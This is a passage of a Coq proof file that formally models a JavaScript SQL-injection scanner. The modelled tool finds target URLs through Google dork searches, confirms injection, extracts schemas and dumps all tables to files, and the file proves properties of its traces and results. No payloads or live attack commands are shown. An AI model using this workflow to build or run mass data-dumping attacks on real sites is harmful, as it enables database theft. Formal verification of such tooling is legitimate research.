    + destruct (IH (emits evs w)) as (evs' & Hw & Hout). exists (evs ++ evs').
      rewrite emits_app. split; [done|].
      destruct (forOf rest (detectPayload url config) (emits evs w)) as [[[found|]|e] w'];
        cbn [fst snd] in *; try (by apply Forall_app).
      destruct Hout as (-> & evs1 & q & -> & Hs & Hq). split; [done|].
      exists (evs ++ evs1), q. rewrite app_assoc. split; [done|].
      split; [by apply Forall_app | by right].
  - exists []. unfold detectPayload, sanitizePayload, Utils.sanitizePayload, bind, lift.
    destruct (Z.gtb_spec (Z.of_nat (String.length p)) (maxPayloadLength config)); [|lia].
    cbn [fst snd]. split; [reflexivity | constructor].
Qed.

(** *** The scan once the target is known to be vulnerable *)

(** The part of [testSQLInjection] that follows a successful detection. *)
Definition comprehensiveScan : M SQLInjectionResult :=
  let scanConfig := config in
  mutate SetVulnerable;;
  log "INFO" "Basic vulnerability confirmed, starting comprehensive scan...";;
  columnCount ← findColumnCount url scanConfig;
  if bool_decide (columnCount ≤ 0)%nat then
    log "WARN" "No columns found, stopping scan";; getResult
  else
    log "INFO" ("Found " +:+ showZ (Z.of_nat columnCount) +:+ " columns");;
    awaitAll [ extractSystemInfo url columnCount scanConfig;
               extractDatabaseSchemas url columnCount scanConfig ];;
    pLimit (maxConcurrency scanConfig);;
    result ← getResult;
    awaitAll (map (λ dbName, extractDatabaseStructure url columnCount dbName scanConfig)
                  (databases result));;
    dumpAllTables url columnCount scanConfig;;
    let domain := default "unknown" (UrlStore.truthy (Utils.extractDomain url)) in
    let timestamp := formatTimestamp in
    awaitAll
      [ saveResultsToJSON ("sql_injection_" +:+ Utils.sanitizeFilename domain +:+ "_" +:+
                           timestamp +:+ ".json");
        saveResultsToSQL ("sql_dump_" +:+ Utils.sanitizeFilename domain +:+ "_" +:+
                          timestamp +:+ ".sql") ];;
    getResult.

(** [Does R m]: from any world [w], [m] adds to the trace effects [evs] and
    ends in an outcome [o] with [R w evs o]. *)
Definition Does {A} (R : World → list Event → Outcome A → Prop) (m : M A) : Prop :=
  ∀ w, ∃ evs, (m w).2 = emits evs w ∧ R w evs (m w).1.

Definition Later (ev : Event) : Prop := Extracting ev ∨ ∃ name, ev = WriteFile name.

(** A computation that, when it returns, returns the result object as its
    effects have left it, every file it wrote having been written. *)
Definition Tail (w : World) (evs : list Event) (o : Outcome SQLInjectionResult) : Prop :=
  Forall Later evs ∧
  ∀ r, o = Ok r →
    r = replay evs (result w) ∧ ∀ name, WriteFile name ∈ evs → writeFile name = None.

Lemma extracting_not_write evs name : Forall Extracting evs → WriteFile name ∉ evs.
Proof. rewrite Forall_forall. intros Hevs Hin. by apply Hevs in Hin. Qed.

Lemma tail_bind {A} (m : M A) (f : A → M SQLInjectionResult) :
  Emits Extracting anything m → (∀ a, Does Tail (f a)) → Does Tail (bind m f).
Proof.
  intros Hm Hf w. unfold bind. destruct (Hm w) as (evs & Hw & Hevs & _).
  assert (Forall Later evs) as Hl by (eapply Forall_impl; [done | by left]).
  destruct (m w) as [[a|e] w1]; simpl in *; subst w1.
  - destruct (Hf a (emits evs w)) as (evs' & Hw' & Hevs' & Hr).
    exists (evs ++ evs'). rewrite emits_app. split; [done|]. split; [by apply Forall_app|].
    intros r Ho. destruct (Hr r Ho) as [-> Hwr]. rewrite emits_result, replay_app. split; [done|].
    intros name [Hin|Hin]%elem_of_app; [by apply extracting_not_write in Hin | auto].
  - exists evs. split; [done|]. split; [done|]. by intros r [=].
Qed.

Lemma tail_getResult : Does Tail getResult.
Proof.
  intros w. exists []. split; [done|]. split; [constructor|].
  intros r [= <-]. split; [done|]. by intros name ?%elem_of_nil.
Qed.

Lemma tail_save json sql :
  Does Tail (awaitAll [saveResultsToJSON json; saveResultsToSQL sql];; getResult).
Proof.
  intros w.
  exists [WriteFile json;
          Log (match writeFile json with
               | None => mkLog "INFO" ("Results saved to " +:+ json)
               | Some message => mkLog "ERROR" ("Error saving JSON results: " +:+ message)
               end);
          WriteFile sql;
          Log (match writeFile sql with
               | None => mkLog "INFO" ("SQL dump saved to " +:+ sql)
               | Some message => mkLog "ERROR" ("Error saving SQL dump: " +:+ message)
               end)].
  assert (∀ l1 l2, Forall Later [WriteFile json; Log l1; WriteFile sql; Log l2]) as Hl.
  { intros. apply Forall_cons. split; [right; by eexists|].
    apply Forall_cons. split; [by left|].
    apply Forall_cons. split; [right; by eexists|].
    apply Forall_cons. split; [by left | constructor]. }
  unfold awaitAll, bind, alone, settle, lift, saveResultsToJSON, saveResultsToSQL,
    bind, perform, log, perform, throw, ret, getResult. simpl.
  destruct (writeFile json) as [e1|] eqn:E1, (writeFile sql) as [e2|] eqn:E2; simpl;
    (split; [reflexivity|]); (split; [apply Hl|]); intros r [= <-]. split; [done|].
  intros name Hin.
  repeat (apply elem_of_cons in Hin as [Heq|Hin];
          [try discriminate Heq; by injection Heq as ->|]).
  by apply elem_of_nil in Hin.
Qed.

Lemma log_quiet level message : Emits Extracting anything (log level message).
Proof. quiet. Qed.

Lemma comprehensiveScan_tail w :
  ∃ evs, (comprehensiveScan w).2 = emits (Mutate SetVulnerable :: evs) w ∧
         Tail (emit (Mutate SetVulnerable) w) evs (comprehensiveScan w).1.
Proof.
  unfold comprehensiveScan. cbn zeta. unfold bind at 1, mutate at 1, perform at 1.
  match goal with |- context [bind ?m ?f (emit _ w)] =>
    assert (Does Tail (bind m f)) as Hrest end.
  { apply tail_bind; [apply log_quiet|]. intros _.
    apply tail_bind; [apply findColumnCount_quiet|]. intros columnCount.
    case_bool_decide.
    { apply tail_bind; [apply log_quiet|]. intros _. apply tail_getResult. }
    apply tail_bind; [apply log_quiet|]. intros _.
    apply tail_bind.
    { apply emits_awaitAll; [|done]. intros task Hin.
      apply elem_of_cons in Hin as [->|Hin]; [apply extractSystemInfo_quiet|].
      apply list_elem_of_singleton in Hin as ->. apply extractDatabaseSchemas_quiet. }
    intros _. apply tail_bind; [by apply emits_pLimit|]. intros _.
    apply tail_bind; [by apply emits_getResult|]. intros r.
    apply tail_bind.
    { apply emits_awaitAll; [|done]. intros task (dbName & -> & _)%list_elem_of_fmap.
      apply extractDatabaseStructure_quiet. }
    intros _. apply tail_bind; [apply dumpAllTables_quiet|]. intros _.
    cbn zeta. apply tail_save. }
  destruct (Hrest (emit (Mutate SetVulnerable) w)) as (evs & Hw & Ht).
  exists evs. by rewrite emits_cons.
Qed.

End Extraction.

Section ScanShape.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.

Lemma testSQLInjection_unfold url options :
  testSQLInjection url options =
    if negb (Utils.validateUrl url) then
      log "ERROR" "Invalid URL provided";; throw "Invalid URL provided"
    else
      tryCatch
        (isVulnerable ← testBasicVulnerability url (spread SCAN_CONFIG options);
         if negb isVulnerable then log "INFO" "No vulnerabilities detected";; getResult
         else comprehensiveScan url (spread SCAN_CONFIG options))
        (λ message, log "ERROR" ("Fatal error during scan: " +:+ message);; throw message).
Proof. reflexivity. Qed.

Lemma emits_initial evs : emits evs initialWorld = mkWorld (replay evs emptyResult) evs.
Proof.
  pose proof (emits_trace evs initialWorld) as Ht.
  pose proof (emits_result evs initialWorld) as Hr.
  destruct (emits evs initialWorld). simpl in *. by subst.
Qed.

Definition fatal (message : string) : Event :=
  Log (mkLog "ERROR" ("Fatal error during scan: " +:+ message)).

(** How a scan of a URL that parses can go: nothing detected; an exception
    during detection; or a detection followed by the comprehensive scan, which
    returns the result object or throws. *)
Definition ScanShape (config : ScanConfig) (evs : list Event)
    (o : Outcome SQLInjectionResult) : Prop :=
  ∃ evs1, Forall idle evs1 ∧
    ((evs = evs1 ++ [Log (mkLog "INFO" "No vulnerabilities detected")] ∧ o = Ok emptyResult) ∨
     (∃ e, evs = evs1 ++ [fatal e] ∧ o = Throw e) ∨
     (∃ payload evs2,
        payload ∈ DETECTION_PAYLOADS ∧ Forall Later evs2 ∧
        let found := evs1 ++ Mutate (PushSuccessfulPayload (sanitized payload)) ::
                             Mutate SetVulnerable :: evs2 in
        ((evs = found ∧ o = Ok (replay found emptyResult) ∧
          ∀ name, WriteFile name ∈ evs2 → writeFile name = None) ∨
         (∃ e, evs = found ++ [fatal e] ∧ o = Throw e)))).

Lemma scan_shape url u options :
  parseURL url = Some u →
  ∃ evs o, run url options = (o, mkWorld (replay evs emptyResult) evs) ∧
           ScanShape (spread SCAN_CONFIG options) evs o.
Proof.
  intros Hu. unfold run. rewrite testSQLInjection_unfold, (validateUrl_parsed _ _ Hu).
  cbn [negb]. set (config := spread SCAN_CONFIG options).
  unfold tryCatch, bind at 1, testBasicVulnerability, bind at 1.
  destruct (detection_shape url config u DETECTION_PAYLOADS initialWorld Hu) as (evs1 & Hw & Hd).
  cbn zeta in *.
  destruct (forOf DETECTION_PAYLOADS (detectPayload url config) initialWorld) as [[[found|]|e] w1];
    cbn [fst snd] in *; subst w1.
  - destruct Hd as (-> & evsd & payload & -> & Hidle & Hin). cbn [default from_option id negb ret].
    destruct (comprehensiveScan_tail url config
                (emits (evsd ++ [Mutate (PushSuccessfulPayload (sanitized payload))]) initialWorld))
      as (evs2 & Hw2 & Hl & Hr).
    set (found := evsd ++ Mutate (PushSuccessfulPayload (sanitized payload)) ::
                          Mutate SetVulnerable :: evs2).
    assert (emits (Mutate SetVulnerable :: evs2)
              (emits (evsd ++ [Mutate (PushSuccessfulPayload (sanitized payload))]) initialWorld)
            = mkWorld (replay found emptyResult) found) as Hfound.
    { rewrite <- emits_app, <- app_assoc. apply emits_initial. }
    destruct (comprehensiveScan url config _) as [[r|e] w2]; cbn [fst snd] in *; subst w2.
    + destruct (Hr r eq_refl) as [Hres Hwrites].
      exists found, (Ok r). split; [by rewrite Hfound|]. exists evsd. split; [done|].
      right. right. exists payload, evs2. split; [done|]. split; [done|]. left.
      split; [done|]. split; [|done]. f_equal. rewrite Hres.
      rewrite emits_snoc, emits_result. cbn [result initialWorld].
      unfold found. rewrite <- replay_app, <- !app_assoc. done.
    + unfold bind, log, perform, throw. cbn [fst snd]. rewrite Hfound.
      exists (found ++ [fatal e]), (Throw e). split.
      { f_equal. unfold emit. cbn [result trace]. f_equal.
        rewrite replay_app. done. }
      exists evsd. split; [done|].
      right. right. exists payload, evs2. split; [done|]. split; [done|]. right. by exists e.
  - cbn [default from_option id negb ret]. unfold bind, log, perform, getResult. cbn [fst snd].
    rewrite emits_snoc. eexists _, _. split; [by rewrite emits_initial|]. exists evs1.
    split; [done|]. left. split; [done|]. f_equal. cbn [result].
    apply replay_silent, Forall_app. split; [|by repeat constructor].
    eapply Forall_impl; [done | apply idle_silent].
  - unfold bind, log, perform, throw. cbn [fst snd]. rewrite emits_snoc.
    eexists _, _. split; [by rewrite emits_initial|]. exists evs1. split; [done|].
    right. left. by exists e.
Qed.







(** *** What the result object holds *)

(** Every name in the result object is a non-empty string of characters of
    the class of the marker pattern, no listed schema is a system schema, and
    every table listed in [tableData] has rows. *)
Definition wellFormed (r : SQLInjectionResult) : Prop :=
  Forall (λ schema, isToken schema ∧ isUserSchema schema = true) (databases r) ∧
  Forall isToken (tables r) ∧
  Forall (λ entry, entry.2 ≠ [] ∧ Forall isToken entry.2) (tableData r) ∧
  (∀ v, version (databaseInfo r) = Some v → isToken v) ∧
  (∀ v, user (databaseInfo r) = Some v → isToken v) ∧
  (∀ v, currentDb (databaseInfo r) = Some v → isToken v).

Definition Sound (ev : Event) : Prop :=
  match ev with
  | Mutate (SetDatabaseInfo _ data) => isToken data
  | Mutate (AddDatabase schema) => isToken schema ∧ isUserSchema schema = true
  | Mutate (AddTable table) => isToken table
  | Mutate (SetTableData _ rows) => rows ≠ [] ∧ Forall isToken rows
  | _ => True
  end.

Lemma idle_sound ev : idle ev → Sound ev.
Proof. by destruct ev. Qed.

Lemma later_sound ev : Later ev → Sound ev.
Proof. intros [He|[name ->]]; [|done]. by destruct ev as [| |[]| |]. Qed.

Lemma setAdd_Forall (P : string → Prop) x l : P x → Forall P l → Forall P (setAdd x l).
Proof.
  intros Hx Hl. unfold setAdd. case_bool_decide; [done|].
  apply Forall_app. split; [done | by repeat constructor].
Qed.

Lemma mapSet_Forall {V} (P : string * V → Prop) k v m :
  P (k, v) → Forall P m → Forall P (mapSet k v m).
Proof.
  intros Hkv. induction 1 as [|[k' v'] m Hx Hm IH]; simpl; [by repeat constructor|].
  case_bool_decide; constructor; done.
Qed.

Lemma applyEvent_wellFormed ev r : Sound ev → wellFormed r → wellFormed (applyEvent ev r).
Proof.
  intros Hev (Hd & Ht & Hm & Hv & Hu & Hc).
  destruct ev as [|?|m| |]; try done.
  destruct m as [|p|key data|schema|table|cols|table rows]; simpl in Hev; try done.
  - destruct key; unfold wellFormed; simpl; split_and!; try done; by intros v [= <-].
  - unfold wellFormed; simpl; split_and!; try done. by apply setAdd_Forall.
  - unfold wellFormed; simpl; split_and!; try done. by apply setAdd_Forall.
  - unfold wellFormed; simpl; split_and!; try done. by apply mapSet_Forall.
Qed.

Lemma replay_wellFormed evs r : Forall Sound evs → wellFormed r → wellFormed (replay evs r).
Proof.
  intros Hevs. revert r. induction Hevs as [|ev evs Hev _ IH]; intros r Hr; [done|].
  simpl. by apply IH, applyEvent_wellFormed.
Qed.

Lemma scan_sound url options : Forall Sound (trace (run url options).2).
Proof.
  destruct (parseURL url) as [u|] eqn:Hu.
  2:{ unfold run, testSQLInjection, Utils.validateUrl. rewrite Hu. by repeat constructor. }
  destruct (scan_shape url u options Hu) as (evs & o & Ho & evs1 & Hidle & Hshape).
  rewrite Ho. cbn [snd trace].
  assert (Forall Sound evs1) as H1 by (eapply Forall_impl; [done | apply idle_sound]).
  destruct Hshape as [[-> _] | [(e & -> & _) | (payload & evs2 & _ & Hl & Hshape)]].
  - apply Forall_app. split; [done | by repeat constructor].
  - apply Forall_app. split; [done | by repeat constructor].
  - assert (Forall Sound evs2) as H2 by (eapply Forall_impl; [done | apply later_sound]).
    assert (Forall Sound (evs1 ++ Mutate (PushSuccessfulPayload (sanitized payload)) ::
                                  Mutate SetVulnerable :: evs2)) as Hf.
    { apply Forall_app. split; [done|]. apply Forall_cons. split; [done|].
      apply Forall_cons. by split. }
    cbn zeta in Hshape. destruct Hshape as [(-> & _) | (e & -> & _)]; [done|].
    apply Forall_app. split; [done|]. apply Forall_cons. split; [done | constructor].
Qed.

Lemma scan_wellFormed url options : wellFormed (result (run url options).2).
Proof.
  unfold run.
  destruct (testSQLInjection_emits url options initialWorld) as (evs & Hw & _ & _).
  pose proof (scan_sound url options) as Hs. unfold run in Hs.
  rewrite Hw in *. rewrite emits_trace in Hs. rewrite emits_result. simpl in *.
  apply replay_wellFormed; [done|]. by repeat split.
Qed.


(** X16.  No schema the result object lists has [information_schema] or
    [mysql] in its name, whatever the responses were and however the scan
    ended. *)
Theorem X16_no_system_schema url options :
  Forall (λ schema, includes "information_schema" schema = false ∧
                    includes "mysql" schema = false)
         (databases (result (run url options).2)).
Proof.
  destruct (scan_wellFormed url options) as (Hd & _).
  eapply Forall_impl; [exact Hd|]. intros schema [_ Hu]. unfold isUserSchema in Hu.
  apply andb_true_iff in Hu as [H1 H2]. by apply negb_true_iff in H1, H2.
Qed.

(** X17.  Every name the result object holds, the schemas, the tables, the
    rows of [tableData] and the three entries of [databaseInfo], is a
    non-empty string of characters of the class [[a-zA-Z0-9_.-]], the part
    of a response the marker pattern captures, with no quote, colon or space
    in it; and a table has an entry in [tableData] only with at least one
    row. *)
Theorem X17_names url options :
  let r := result (run url options).2 in
  let named name := name ≠ "" ∧ ∀ c, c ∈ chars name → isMarkerChar c = true in
  (∀ name, name ∈ databases r ++ tables r → named name) ∧
  (∀ table rows, (table, rows) ∈ tableData r → rows ≠ [] ∧ ∀ row, row ∈ rows → named row) ∧
  (∀ entry v, entry ∈ [version (databaseInfo r); user (databaseInfo r);
                       currentDb (databaseInfo r)] → entry = Some v → named v).
Proof.
  intros r named. destruct (scan_wellFormed url options) as (Hd & Ht & Hm & Hv & Hu & Hc).
  fold r in Hd, Ht, Hm, Hv, Hu, Hc.
  rewrite Forall_forall in Hd. rewrite Forall_forall in Ht. rewrite Forall_forall in Hm.
  split; [|split].
  - intros name [Hin|Hin]%elem_of_app; [by apply Hd in Hin as [? _] | by apply Ht].
  - intros table rows Hin. apply Hm in Hin as [Hne Hrows]. split; [done|].
    rewrite Forall_forall in Hrows. apply Hrows.
  - intros entry v Hin ->. unfold named.
    repeat (apply elem_of_cons in Hin as [Hin|Hin];
            [symmetry in Hin; first [by apply Hv | by apply Hu | by apply Hc]|]).
    by apply elem_of_nil in Hin.
Qed.

End ScanShape.

(** ** The driver: [index.js] and [src/url-utils.js]

    [processSingleUrl] is the one of the [index.js] that imports from
    [./src/]; what the store and the scanner log is not repeated here. *)

Module Driver.
Import UrlStore Scanner.

(** [new URL(url).search]: the query of a URL as it is written, with its
    question mark. *)
Class UrlSearch := searchOf : string → string.

(** The lines the driver logs, by the entry of [MESSAGES] they are made from
    and its arguments. *)
Inductive Message :=
| InvalidUrl (url : string)
| UrlTested (url : string)
| TestingUrl (url : string)
| VulnerabilityFound
| TablesFound
| ColumnsFound
| Item (name : string)
| ErrorTestingUrl (url message : string).

Inductive Event :=
| Console (message : Message)
| Scan (url : string) (effects : list Scanner.Event)      (* await testSQLInjection(url) *)
| SaveVulnerableUrl (url : string) (result : SQLInjectionResult)
| Wait (ms : Z).

Section Driver.
Context `{Environment} `{UrlSearch}.

(** [src/url-utils.js] *)
Definition isValidTestUrl (url : string) : bool :=
  match parseURL url with
  | Some urlObj => includes "=" (searchOf url) && negb (includes "google.com" (hostname urlObj))
  | None => false
  end.

Definition displayResults (result : SQLInjectionResult) : list Event :=
  [Console VulnerabilityFound] ++
  (if bool_decide (0 < length (tables result))%nat
   then Console TablesFound :: map (λ table, Console (Item table)) (tables result) else []) ++
  (if bool_decide (0 < length (columns result))%nat
   then Console ColumnsFound :: map (λ column, Console (Item column)) (columns result) else []).

(** [processSingleUrl(url, testDelay)] at time [now], on the shared store. *)
Definition processSingleUrl (now testDelay : Z) (url : string) (s : URLStore)
    : URLStore * list Event :=
  if negb (isValidTestUrl url) then (s, [Console (InvalidUrl url)])
  else
    let '(tested, s) := isUrlTested now url s in
    if tested then (s, [Console (UrlTested url)])
    else
      let s := markUrlAsTested now url s in
      let '(outcome, w) := run url noConfig in
      (s, [Console (TestingUrl url); Scan url (trace w)] ++
          match outcome with
          | Ok result =>
              if vulnerable result
              then displayResults result ++ [SaveVulnerableUrl url result]
              else []
          | Throw message => [Console (ErrorTestingUrl url message)]
          end ++ [Wait testDelay]).

(** [for (const url of urls) await processSingleUrl(url, testDelay)], each
    call at its own time. *)
Fixpoint processAll (testDelay : Z) (schedule : list (Z * string)) (s : URLStore)
    : URLStore * list Event :=
  match schedule with
  | [] => (s, [])
  | (now, url) :: rest =>
      let '(s, evs) := processSingleUrl now testDelay url s in
      let '(s, evs') := processAll testDelay rest s in
      (s, evs ++ evs')
  end.

End Driver.
End Driver.

(** ** [searchGoogle] *)

Module Search.
Import UrlStore Scanner.

(** [Partial<GoogleSearchConfig>]; the proxy is handed to the page request
    and plays no part in the loop. *)
Record PartialSearchConfig := mkPartialSearch {
  searchDelay' : option Z;
  maxPages' : option Z;
  outputFile' : option (option string);
  maxRetries' : option Z
}.

Record GoogleSearchConfig := mkSearchConfig {
  searchDelay : Z;
  maxPages : Z;
  outputFile : option string;
  maxRetries : Z
}.

(** What [await searchGooglePage(...)] gives: the URLs of a page of results,
    or an exception, with whether the status of its response is 429. *)
Inductive Fetched :=
| Page (urls : list string)
| Failed (tooManyRequests : bool) (message : string).

(** The collaborators of [searchGoogle]: [searchGooglePage], answered by the
    number of the call, the dork and the start index; [encodeURIComponent];
    [fs.writeFile], which gives the message of a failed write; and
    [CONFIG.googleSearchDelay]. *)
Class Google := mkGoogle {
  searchGooglePage : nat → string → Z → Fetched;
  encodeURIComponent : string → string;
  writeResults : string → option string;
  googleSearchDelay : Z
}.

Inductive Line :=
| ComplianceWarning
| SearchingDork (dork : string)
| FoundUrls (count : nat)
| RateLimitDetected (ms : Z)
| SearchFailed (attempt : Z) (message : string)
| MaxRetriesReached (dork : string)
| ResultsSaved (file : string)
| ErrorSavingResults (message : string).

Inductive Effect :=
| Print (line : Line)                                (* log(level, message) *)
| Fetch (call : nat) (dork : string) (start : Z)     (* await searchGooglePage(dork, start, config) *)
| Pause (ms : Z)                                     (* await delay(ms) *)
| Save (name : string)                               (* fs.writeFile(name, ...) *).

Section Search.
Context `{UrlParser} `{Google}.

Definition DEFAULT_CONFIG : GoogleSearchConfig :=
  mkSearchConfig (if bool_decide (googleSearchDelay = 0) then 5000 else googleSearchDelay)
                 1 None 3.

(** [{ ...DEFAULT_CONFIG, ...config }] *)
Definition spread (base : GoogleSearchConfig) (config : PartialSearchConfig)
    : GoogleSearchConfig :=
  mkSearchConfig (default (searchDelay base) (searchDelay' config))
                 (default (maxPages base) (maxPages' config))
                 (default (outputFile base) (outputFile' config))
                 (default (maxRetries base) (maxRetries' config)).

(** [urls.forEach(url => allUrls.add(url))] *)
Definition addAll (urls allUrls : list string) : list string :=
  foldl (λ all url, setAdd url all) allUrls urls.

(** The loop over the pages, for the pages still to come: the exception that
    ended it, if any, the number of calls made so far, the set of URLs and the
    effects. *)
Fixpoint searchPages (pages : list Z) (dork : string) (config : GoogleSearchConfig)
    (calls : nat) (allUrls : list string)
    : option (bool * string) * nat * list string * list Effect :=
  match pages with
  | [] => (None, calls, allUrls, [])
  | page :: rest =>
      match searchGooglePage calls dork (page * 10) with
      | Failed tooMany message =>
          (Some (tooMany, message), S calls, allUrls, [Fetch calls dork (page * 10)])
      | Page urls =>
          let allUrls := addAll urls allUrls in
          if bool_decide (length urls = 0%nat) || bool_decide (page = maxPages config - 1)
          then (None, S calls, allUrls, [Fetch calls dork (page * 10)])
          else
            let '(failure, calls', allUrls, evs) :=
              searchPages rest dork config (S calls) allUrls in
            (failure, calls', allUrls,
             Fetch calls dork (page * 10) :: Pause (searchDelay config) :: evs)
      end
  end.

(** The values [page] takes in [for (let page = 0; page < maxPages; page++)]. *)
Definition pageNumbers (config : GoogleSearchConfig) : list Z :=
  map Z.of_nat (seq 0 (Z.to_nat (maxPages config))).

(** [saveResults(urls, outputFile)]; it catches what the write throws. *)
Definition saveResults (outputFile : string) : list Effect :=
  let sanitizedFile := Utils.sanitizeFilename outputFile in
  [ Save sanitizedFile;
    Print (match writeResults sanitizedFile with
             | None => ResultsSaved sanitizedFile
             | Some message => ErrorSavingResults message
             end) ].

(** The filter over the URLs found, at time [now]. *)
Fixpoint searchFilter (now : Z) (urls : list string) (s : URLStore)
    : list string * URLStore :=
  match urls with
  | [] => ([], s)
  | url :: rest =>
      let '(keep, s) := submit now url s in
      let '(kept, s) := searchFilter now rest s in
      (if keep then url :: kept else kept, s)
  end.

(** What a call of [searchGoogle] leaves: the URLs it returns, the store, the
    number of page requests made so far and the effects. *)
Record Searched := mkSearched {
  found : list string;
  store : URLStore;
  requests : nat;
  effects : list Effect
}.

Definition after (evs : list Effect) (r : Searched) : Searched :=
  mkSearched (found r) (store r) (requests r) (evs ++ effects r).

(** The [while] loop, entered with [retries] failed attempts behind; [fuel]
    bounds the attempts still to make. *)
Fixpoint attempts (fuel : nat) (retries : Z) (now : Z) (dork sanitizedDork : string)
    (config : GoogleSearchConfig) (calls : nat) (allUrls : list string) (s : URLStore)
    : Searched :=
  match fuel with
  | O => mkSearched [] s calls []
  | S fuel' =>
      if bool_decide (retries < maxRetries config) then
        let '(failure, calls, allUrls, evs) :=
          searchPages (pageNumbers config) sanitizedDork config calls allUrls in
        match failure with
        | None =>
            let '(uniqueUrls, s) := searchFilter now allUrls s in
            mkSearched uniqueUrls s calls
              (evs ++ [Print (FoundUrls (length uniqueUrls))] ++
               match truthy (outputFile config) with
               | Some file => saveResults file
               | None => []
               end)
        | Some (tooMany, message) =>
            let retries := retries + 1 in
            if tooMany then
              after (evs ++ [Print (RateLimitDetected (searchDelay config * 2));
                             Pause (searchDelay config * 2)])
                    (attempts fuel' retries now dork sanitizedDork config calls allUrls s)
            else if bool_decide (retries >= maxRetries config) then
              mkSearched [] s calls
                (evs ++ [Print (SearchFailed retries message);
                         Print (MaxRetriesReached dork)])
            else
              after (evs ++ [Print (SearchFailed retries message);
                             Pause (searchDelay config)])
                    (attempts fuel' retries now dork sanitizedDork config calls allUrls s)
        end
      else mkSearched [] s calls []
  end.

(** [searchGoogle(dork, config)], the filter running at time [now], after
    [calls] page requests. *)
Definition searchGoogle (now : Z) (dork : string) (config : PartialSearchConfig)
    (calls : nat) (s : URLStore) : Searched :=
  let searchConfig := spread DEFAULT_CONFIG config in
  let sanitizedDork := encodeURIComponent (trim dork) in
  after [Print ComplianceWarning; Print (SearchingDork dork)]
        (attempts (Z.to_nat (maxRetries searchConfig)) 0 now dork sanitizedDork searchConfig
                  calls [] s).

End Search.
End Search.


Section SearchFacts.
Import UrlStore Scanner Driver Search.
Context `{Environment} `{UrlSearch} `{Google}.

Lemma submit_tested now url s : testedUrls s ⊆ testedUrls (submit now url s).2.
Proof.
  unfold submit. pose proof (isUrlTested_tested now url s) as Ht.
  destruct (isUrlTested now url s) as [tested s1]. simpl in Ht.
  destruct (Utils.validateUrl url && negb tested); simpl; [|by rewrite Ht].
  rewrite markUrlAsTested_testedUrls, Ht. set_solver.
Qed.

(** What the callback of the filter does with one URL. *)
Lemma submit_cases now url s :
  ((submit now url s).1 = true ∧ Utils.validateUrl url = true ∧
   (normalizeUrl url ∉ testedUrls s) ∧
   testedUrls (submit now url s).2 = {[normalizeUrl url]} ∪ testedUrls s) ∨
  ((submit now url s).1 = false ∧ testedUrls (submit now url s).2 = testedUrls s).
Proof.
  unfold submit. pose proof (isUrlTested_tested now url s) as Ht.
  destruct (isUrlTested_cases now url s) as [E | [(E & Hn & _) | (d & ps & _ & _ & Hn & _ & _ & E)]];
    rewrite E in *; simpl in *.
  - right. by rewrite andb_false_r.
  - destruct (Utils.validateUrl url); simpl; [left | by right].
    by rewrite markUrlAsTested_testedUrls.
  - destruct (Utils.validateUrl url); simpl; [left | by right].
    by rewrite markUrlAsTested_testedUrls.
Qed.

Lemma searchFilter_spec now urls s :
  let kept := (searchFilter now urls s).1 in
  let s' := (searchFilter now urls s).2 in
  testedUrls s' = list_to_set (normalizeUrl <$> kept) ∪ testedUrls s ∧
  NoDup (normalizeUrl <$> kept) ∧
  ∀ url, url ∈ kept →
    url ∈ urls ∧ Utils.validateUrl url = true ∧ normalizeUrl url ∉ testedUrls s.
Proof.
  revert s. induction urls as [|u rest IH]; intros s; simpl.
  { split; [set_solver|]. split; [constructor|]. by intros url ?%elem_of_nil. }
  destruct (submit_cases now u s) as [(Hk & Hv & Hn & Ht) | (Hk & Ht)];
    destruct (submit now u s) as [keep s1]; simpl in *; subst keep;
    destruct (IH s1) as (IHt & IHd & IHk);
    destruct (searchFilter now rest s1) as [kept s2]; simpl in *.
  - split; [rewrite IHt, Ht; set_solver|]. split.
    + constructor; [|done]. intros (x & Hx & Hin)%list_elem_of_fmap.
      destruct (IHk x Hin) as (_ & _ & Hnot). apply Hnot. rewrite Ht, <- Hx. set_solver.
    + intros url [->|Hin]%elem_of_cons; [split; [by left | done]|].
      destruct (IHk url Hin) as (? & ? & Hnot). split; [by right|]. split; [done|].
      rewrite Ht in Hnot. set_solver.
  - split; [by rewrite IHt, Ht|]. split; [done|].
    intros url Hin. destruct (IHk url Hin) as (? & ? & Hnot). split; [by right|].
    split; [done|]. by rewrite Ht in Hnot.
Qed.

Definition isFetch (ev : Search.Effect) : Prop :=
  match ev with Fetch _ _ _ => True | _ => False end.

Global Instance isFetch_dec ev : Decision (isFetch ev).
Proof. destruct ev; simpl; apply _. Defined.

(** The number of page requests among some effects. *)
Definition fetches (evs : list Search.Effect) : nat := length (filter isFetch evs).

Lemma fetches_app evs1 evs2 : fetches (evs1 ++ evs2) = (fetches evs1 + fetches evs2)%nat.
Proof. unfold fetches. by rewrite filter_app, length_app. Qed.

Lemma fetches_fetch call dork start evs :
  fetches (Fetch call dork start :: evs) = S (fetches evs).
Proof. unfold fetches. by rewrite filter_cons_True. Qed.

Lemma fetches_other ev evs : ¬ isFetch ev → fetches (ev :: evs) = fetches evs.
Proof. intros Hev. unfold fetches. by rewrite filter_cons_False. Qed.

Lemma fetches_nil : fetches [] = 0%nat.
Proof. done. Qed.

Ltac count_fetches :=
  rewrite ?fetches_app, ?fetches_fetch, ?fetches_other, ?fetches_nil by (by intros []).

Lemma searchPages_fetches pages dork config calls allUrls :
  let '(_, calls', _, evs) := searchPages pages dork config calls allUrls in
  calls' = (calls + fetches evs)%nat ∧ (fetches evs ≤ length pages)%nat.
Proof.
  revert calls allUrls. induction pages as [|page rest IH]; intros calls allUrls; simpl.
  { split; [by rewrite Nat.add_0_r | done]. }
  destruct (searchGooglePage calls dork (page * 10)) as [urls|tooMany message].
  - destruct (bool_decide (length urls = 0%nat) || bool_decide (page = maxPages config - 1)).
    + count_fetches. split; lia.
    + specialize (IH (S calls) (addAll urls allUrls)).
      destruct (searchPages rest dork config (S calls) (addAll urls allUrls))
        as [[[failure calls'] all'] evs].
      destruct IH as [-> Hle]. count_fetches. split; lia.
  - count_fetches. split; lia.
Qed.

Lemma attempts_spec fuel retries now dork sanitizedDork config calls allUrls s :
  let r := attempts fuel retries now dork sanitizedDork config calls allUrls s in
  ((found r = [] ∧ store r = s) ∨ ∃ urls, (found r, store r) = searchFilter now urls s) ∧
  requests r = (calls + fetches (effects r))%nat ∧
  (fetches (effects r) ≤ fuel * length (pageNumbers config))%nat.
Proof.
  revert retries calls allUrls.
  induction fuel as [|fuel IH]; intros retries calls allUrls; simpl.
  { split; [by left|]. split; [by rewrite Nat.add_0_r | done]. }
